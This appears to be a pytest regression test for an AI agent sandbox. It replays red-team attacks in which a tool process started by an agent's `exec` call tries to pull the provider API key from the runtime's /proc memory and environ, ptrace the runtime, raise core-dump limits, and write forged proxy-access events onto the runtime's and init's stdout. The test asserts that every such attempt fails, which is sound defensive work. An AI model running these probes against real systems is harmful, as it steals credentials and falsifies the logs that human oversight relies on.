"""The red-team attacks of issue #12 items 3 and 5, replayed from a tool process in a real sandbox run.

One run of an Expert whose scripted model calls the base skill's `exec` with one probe script, so the
attacks run exactly where the red team ran them: a program the `exec` tool started, same uid as the
runtime, inside the Expert's container. From there it tries, against the runtime (its parent) and the
container's init (PID 1, which also holds the container's stdout):

* find the provider key in /proc/<runtime>/mem (compared by hash: the key itself never enters the
  script), read /proc/<runtime>/environ, PTRACE_SEIZE it, prlimit-raise its core limit;
* open /proc/<runtime>/fd/1 and /proc/1/fd/1 and write a forged `proxyAccess` event and an unsigned
  runtime event on them (the host printed such a line as the proxy's word);
* raise the core limit of a crashing process of its own and SIGSEGV it: no core may land in /workspace.

Every refusal has its control, run by the same script against a child of its own that holds a canary
(same domain, not hardened): the memory scan finds the canary, environ/fd/ptrace/prlimit work, lowering a
limit works. The core dump's control runs on the host (the same crash with a raised limit leaves a core
where the kernel's core_pattern says). On the code before the fix, the key is found, every open succeeds
and the forged `proxyAccess` reaches `sandbox run`'s stdout.
"""

from __future__ import annotations

import hashlib
import json
import resource
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from sandbox.docker._testkit import Harness, base_env, module_harness
from sandbox.testing import Expectation, ToolCall, Turn

pytestmark = [pytest.mark.docker, pytest.mark.slow]

SECRET = "sk-ant-mem-SECRET-" + "5b1e9c0d7a42f3e8"
PROBE = r"""
import ctypes, hashlib, json, os, resource, signal, subprocess, sys, time
PREFIX, LENGTH, DIGEST, JOB = @PREFIX@, @LENGTH@, @DIGEST@, @JOB@
RUNTIME = os.getppid()
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
out = {"runtime_pid": RUNTIME}

def attempt(fn):
    try:
        return fn()
    except OSError as e:
        return "err " + (os.strerror(e.errno) if e.errno else str(e))

def scan(pid, check):
    def go():
        with open("/proc/%d/maps" % pid) as maps, open("/proc/%d/mem" % pid, "rb", 0) as mem:
            for line in maps:
                span, perms = line.split()[:2]
                a, b = (int(x, 16) for x in span.split("-"))
                if "r" not in perms or b - a > 1 << 28:
                    continue
                try:
                    mem.seek(a)
                    data = mem.read(b - a)
                except OSError:
                    continue
                if check(data):
                    return "found"
        return "not found"
    return attempt(go)

def has_key(data):
    at = data.find(PREFIX)
    while at >= 0:
        if hashlib.sha256(data[at:at + LENGTH]).hexdigest() == DIGEST:
            return True
        at = data.find(PREFIX, at + 1)
    return False

def environ(pid, needle):
    return attempt(lambda: "found" if needle in open("/proc/%d/environ" % pid, "rb").read() else "read")

def seize(pid):
    def go():
        if libc.ptrace(0x4206, pid, None, None) != 0:
            raise OSError(ctypes.get_errno(), "ptrace")
        libc.ptrace(17, pid, None, None)
        return "seized"
    return attempt(go)

def prlimit_raise(pid):
    return attempt(lambda: (resource.prlimit(pid, resource.RLIMIT_CORE, (1 << 30, 1 << 30)), "raised")[1])

def forge(path):
    def go():
        fd = os.open(path, os.O_WRONLY)
        try:
            now = int(time.time() * 1000)
            forged = {"type": "proxyAccess", "id": "forged1", "jobId": JOB, "runId": "r", "timestamp": now,
                      "action": "allowed", "domain": "forged.example", "port": 443}
            unsigned = {"type": "skillStderr", "id": "forged2", "jobId": JOB, "runId": "r",
                        "timestamp": now, "skillName": "forged", "message": "forged-runtime-event"}
            os.write(fd, (json.dumps(forged) + "\n" + json.dumps(unsigned) + "\n").encode())
        finally:
            os.close(fd)
        return "written"
    return attempt(go)

# --- the runtime and PID 1 -----------------------------------------------------------------------
out["rt_mem"] = scan(RUNTIME, has_key)
out["rt_environ"] = environ(RUNTIME, PREFIX)
out["rt_ptrace"] = seize(RUNTIME)
out["rt_prlimit"] = prlimit_raise(RUNTIME)
out["rt_fd1"] = forge("/proc/%d/fd/1" % RUNTIME)
out["init_fd1"] = forge("/proc/1/fd/1")
out["init_environ"] = environ(1, b"PATH=")

# --- controls: a child of this script's own, holding a canary ------------------------------------
CANARY = b"canary-" + os.urandom(8).hex().encode()
child = subprocess.Popen([sys.executable, "-c", "import os,sys,time\nr,w=os.pipe()\n"
                          "s=sys.stdin.readline()\nprint('ready',w,flush=True)\ntime.sleep(60)"],
                         stdin=subprocess.PIPE, stdout=subprocess.PIPE, env={"CHILD_CANARY": CANARY.decode()})
child.stdin.write(CANARY + b"\n"); child.stdin.flush()
word, pipe_fd = child.stdout.readline().split()
out["ctl_mem"] = scan(child.pid, lambda data: CANARY in data)
out["ctl_environ"] = environ(child.pid, CANARY)
out["ctl_ptrace"] = seize(child.pid)
out["ctl_fd"] = attempt(lambda: (os.close(os.open("/proc/%d/fd/%s" % (child.pid, pipe_fd.decode()),
                                                   os.O_WRONLY)), "opened")[1])
NOFILE_HARD = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
out["ctl_prlimit_lower"] = attempt(
    lambda: (resource.prlimit(child.pid, resource.RLIMIT_NOFILE, (64, NOFILE_HARD)), "lowered")[1])
# --- core dump: raise the crasher's limit, crash it, look for a core -----------------------------
out["core_limit"] = list(resource.getrlimit(resource.RLIMIT_CORE))
out["core_raise"] = prlimit_raise(child.pid)
os.kill(child.pid, signal.SIGSEGV)
child.wait()
out["core_crash"] = child.returncode
time.sleep(0.5)
out["core_files"] = sorted(n for n in os.listdir("/workspace") if n.startswith("core"))
print("MEMPROBE " + json.dumps(out))
"""


@pytest.fixture(scope="module")
def harness(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Harness]:
    yield from module_harness(tmp_path_factory.mktemp("llm"))


def _host_core_control(tmp: Path) -> tuple[int, list[str]]:
    """The same crash on the host, with the core limit raised: where the kernel writes cores."""
    child = subprocess.Popen(
        [sys.executable, "-c", "import time; time.sleep(30)"],
        cwd=tmp,
        preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_CORE, (1 << 30, 1 << 30)),  # noqa: PLW1509
    )
    time.sleep(0.3)
    child.send_signal(signal.SIGSEGV)
    child.wait(timeout=30)
    time.sleep(0.5)
    return child.returncode, sorted(p.name for p in tmp.iterdir() if p.name.startswith("core"))


def test_a_tool_process_cannot_read_the_key_dump_a_core_or_forge_events(
    harness: Harness, tmp_path: Path
) -> None:
    llm = harness.llm
    assert llm is not None
    project = tmp_path / "project"
    harness.write_project(project, '\n[experts."probe"]\nversion = "1.0.0"\ninstruction = "Probe."\n')
    job = "memjob" + str(int(time.time()))
    probe = (
        PROBE.replace("@PREFIX@", repr(SECRET[:11].encode()))
        .replace("@LENGTH@", str(len(SECRET)))
        .replace("@DIGEST@", repr(hashlib.sha256(SECRET.encode()).hexdigest()))
        .replace("@JOB@", repr(job))
    )
    llm.remote().set_script(
        [
            Turn(
                tool_calls=[ToolCall("exec", {"command": "python3", "args": ["-c", probe], "timeout": 90000})]
            ),
            Turn("probed", expect=Expectation(tool_result_contains=["MEMPROBE"])),
        ]
    )
    env = base_env(tmp_path, ANTHROPIC_API_KEY=SECRET)
    result = harness.run_cli(project, ["probe", "go", "--job-id", job], env)
    assert result.code == 0, result.stderr[-3000:]
    text = next(r for r in llm.remote().requests[1].tool_results if "MEMPROBE" in r)
    found = json.loads(text[text.index("MEMPROBE ") + 9 :].splitlines()[0])

    # Controls: every method works inside the sandbox against a process that is not protected.
    assert found["ctl_mem"] == "found" and found["ctl_environ"] == "found", found
    assert found["ctl_ptrace"] == "seized" and found["ctl_fd"] == "opened", found
    assert found["ctl_prlimit_lower"] == "lowered", found

    # The runtime (non-dumpable) and PID 1 (outside the tool's Landlock domain) are closed to it.
    assert found["rt_mem"].startswith("err"), found  # before the fix: "found" (the key, in one second)
    assert found["rt_environ"].startswith("err") and found["rt_ptrace"].startswith("err"), found
    assert found["rt_fd1"].startswith("err") and found["init_fd1"].startswith("err"), found
    assert found["init_environ"].startswith("err"), found
    # Hard core limit 0: raising it fails for the runtime and for a process of the tool's own.
    assert found["core_limit"] == [0, 0], found
    assert found["rt_prlimit"].startswith("err") and found["core_raise"].startswith("err"), found
    assert found["core_crash"] == -signal.SIGSEGV and found["core_files"] == [], found
    assert not [p for p in project.iterdir() if p.name.startswith("core")]
    # The control for the core: the same crash with a raised limit, outside the sandbox, dumps.
    (tmp_path / "host-core").mkdir()
    code, cores = _host_core_control(tmp_path / "host-core")
    pattern = Path("/proc/sys/kernel/core_pattern").read_text().strip()
    assert code == -signal.SIGSEGV
    if not pattern.startswith("|") and "/" not in pattern:
        assert cores, f"core_pattern {pattern!r}: the host control left no core"

    # Nothing forged reached the user's stdout; the real proxy's decisions did (the control).
    events = [json.loads(line) for line in result.stdout.splitlines() if line.startswith("{")]
    assert not any(e.get("domain") == "forged.example" for e in events), events
    assert not any(e.get("message") == "forged-runtime-event" for e in events)
    assert any(e["type"] == "proxyAccess" and e["domain"] == "llm.test" for e in events)
    assert events[-1]["type"] == "completeRun"
    assert SECRET not in result.stdout and SECRET not in result.stderr
